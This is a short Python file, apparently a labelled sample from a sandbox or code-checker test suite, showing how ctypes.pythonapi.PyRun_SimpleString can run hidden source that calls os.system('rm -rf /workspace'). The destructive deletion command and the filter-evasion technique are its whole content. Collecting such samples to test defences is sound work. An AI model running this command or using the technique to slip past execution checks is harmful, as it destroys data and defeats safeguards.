# attack-class: 9
# title: ctypes.pythonapi.PyRun_SimpleString
# why: calls the C API of the running interpreter to run source

import ctypes

ctypes.pythonapi.PyRun_SimpleString(b"import os; os.system('rm -rf /workspace')")
